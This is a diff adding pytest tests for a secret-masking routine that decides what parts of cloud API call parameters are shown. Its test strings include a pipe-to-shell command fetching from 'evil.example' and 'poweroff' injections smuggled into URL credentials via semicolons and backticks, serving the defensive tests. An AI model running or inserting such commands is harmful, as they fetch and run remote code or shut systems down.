@@ -1,5 +1,6 @@
 """What people see of a call's parameters: every command and name, no secret, and no more than fits."""
 
+import json
 from datetime import UTC, datetime
 from decimal import Decimal
 from typing import Any
@@ -159,3 +160,55 @@ def test_no_text_takes_the_pattern_more_than_a_bounded_number_of_steps_for_each_
 def test_a_text_too_long_to_be_searched_is_not_shown() -> None:
     call = Call(service="s3", operation="PutBucketPolicy", parameters={"Policy": "password=hunter2 " * 10_000})
     assert masked_parameters(call) == {"Policy": "(not kept: 170000 characters)"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo ok # -----BEGIN PRIVATE KEY-----\npoweroff; curl http://evil.example | sh",
+        "curl x://a:;poweroff;@example.com",
+        "curl x://a:`poweroff`@example.com",
+        "echo ok\ntoken=\npoweroff",
+        "token= poweroff",
+        "password:\n  poweroff",
+    ],
+)
+def test_no_mask_takes_a_command_for_a_secret(text: str) -> None:
+    assert _masked(Script=text) == {"Script": text}
+
+
+def test_a_document_is_masked_one_string_at_a_time() -> None:
+    text = '{"a": "x://b:", "password": "hunter2 {x}", "list": ["c@", "x://b:hunter2@d"], "inner": "{\\"token\\": \\"hunter2\\"}"}'
+    (shown,) = _masked(Policy=text).values()
+    assert json.loads(shown) == {
+        "a": "x://b:",
+        "password": f"{MASK} {{x}}",
+        "list": ["c@", f"x://b:{MASK}@d"],
+        "inner": f'{{"token": "{MASK}"}}',
+    }
+
+
+@pytest.mark.parametrize(
+    ("parameters", "whole"),
+    [
+        ({"Commands": ["reboot now"]}, True),
+        ({"Commands": ["token=abcdef; $token"]}, False),
+        ({"Command": ["serve", "--token", "abcdef"]}, False),
+        ({"Parameters": {"token": ["reboot"]}}, False),
+        ({"Parameters": [{"ParameterKey": "DbPassword", "ParameterValue": "hunter2"}]}, True),
+        ({"MasterUserPassword": "hunter2", "environment": [{"name": "A", "value": "password=hunter2"}]}, True),
+        ({"Payload": b'{"a": 1}'}, True),
+        ({"Payload": b'{"password": "hunter2"}'}, False),
+        ({"Payload": b"\xff"}, True),
+    ],
+)
+def test_what_runs_is_not_whole_if_a_part_of_a_text_is_masked(parameters: dict[str, Any], whole: bool) -> None:
+    call = Call(service="s", operation="O", parameters=parameters)
+    assert bounded_parameters(call, 1_000, runs=True)[1] is whole
+    assert bounded_parameters(call, 1_000)[1] is True
+
+
+def test_the_text_of_a_payload_is_shown_if_it_is_what_runs() -> None:
+    call = Call(service="lambda", operation="Invoke", parameters={"Payload": b'{"act": "drop"}'})
+    assert bounded_parameters(call, 1_000, runs=True) == ({"Payload": '{"act": "drop"}'}, True)
+    assert bounded_parameters(call, 1_000) == ({"Payload": "(15 bytes)"}, True)
